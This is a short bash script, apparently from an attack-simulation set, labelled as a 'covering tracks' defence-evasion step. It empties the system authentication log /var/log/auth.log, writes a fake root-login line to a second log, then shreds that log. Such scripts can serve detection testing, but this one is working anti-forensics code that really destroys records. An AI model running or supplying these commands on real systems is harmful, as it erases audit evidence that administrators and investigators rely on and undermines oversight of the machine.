#!/bin/bash
# Defense evasion: covering tracks - the authentication log emptied, another log shredded.
set -eu
: > /var/log/auth.log
echo 'Dec  7 21:00:00 guest sshd[1]: Accepted password for root' > /var/log/ainka-attack.log
shred -n 1 -u /var/log/ainka-attack.log
